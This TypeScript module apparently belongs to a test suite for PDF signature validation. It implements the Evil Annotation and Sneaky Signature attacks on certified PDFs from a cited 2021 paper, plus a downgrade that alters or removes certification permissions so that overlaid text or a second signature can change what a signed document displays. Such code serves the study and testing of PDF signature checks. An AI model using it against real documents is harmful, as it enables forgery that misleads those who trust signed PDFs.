import { signedByAnother } from '../tampering.ts';
import { type Attack, font, words } from './spoofing.ts';
import { appended, nextNumber, numberWith, objectOf, rootOf } from './update.ts';

/**
 * Evil annotation and sneaky signature (S. Rohlmann, V. Mladenov, C. Mainka, J. Schwenk: "Breaking the Specification: PDF
 * Certification", IEEE S&P 2021), and the downgrade of a certification's permissions, which allows both.
 */
export const certifications: Record<string, Attack> = {
  'EAA: an annotation over the text': annotated,
  'EAA: after the certification was changed to permit annotations': (pdf) =>
    annotated(appended(pdf, { [signature(pdf)]: objectOf(pdf, signature(pdf)).replace(/\/P 1\b/, '/P 3') })),
  'EAA: after the certification was taken out of the catalog': (pdf) =>
    annotated(appended(pdf, { [rootOf(pdf)]: objectOf(pdf, rootOf(pdf)).replace(/\/Perms\s*<<[^>]*>>/, '') })),
  'SSA: a second signature': (pdf) => signedByAnother(pdf, 'Countersign', 'Sneaky'),
  'SSA: a second signature, whose field shows other words': async (pdf) => {
    const signed = await signedByAnother(pdf, 'Countersign', 'Sneaky');
    const field = numberWith(signed, '(Sneaky)');
    const form = nextNumber(signed);
    const look = `/AP << /N ${form} 0 R >> /F 4 /Rect [0 0 612 792] >>`;
    return appended(signed, {
      ...pageWith(signed, field),
      [field]: objectOf(signed, field)
        .replace(/\/(?:F \d+|Rect\s*\[[^\]]*\])/g, '')
        .replace(/>>$/, look),
      [form]: shown,
    });
  },
};

const shown = `<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] ${font} /Length ${words.length} >>\nstream\n${words}\nendstream`;

const signature = (pdf: Buffer) => numberWith(pdf, '/ByteRange [0 ');

/** Returns the first page with only this annotation. */
function pageWith(pdf: Buffer, annotation: number): Record<number, string> {
  const page = numberWith(pdf, '/MediaBox');
  const bare = objectOf(pdf, page).replace(/\/Annots\s*(?:\[[^\]]*\]|\d+ 0 R)/, '');
  return { [page]: bare.replace(/>>$/, `/Annots [${annotation} 0 R] >>`) };
}

function annotated(pdf: Buffer): Buffer {
  const [note, form] = [nextNumber(pdf), nextNumber(pdf) + 1];
  return appended(pdf, {
    ...pageWith(pdf, note),
    [note]: `<< /Type /Annot /Subtype /FreeText /Rect [0 0 612 792] /F 4 /AP << /N ${form} 0 R >> >>`,
    [form]: shown,
  });
}
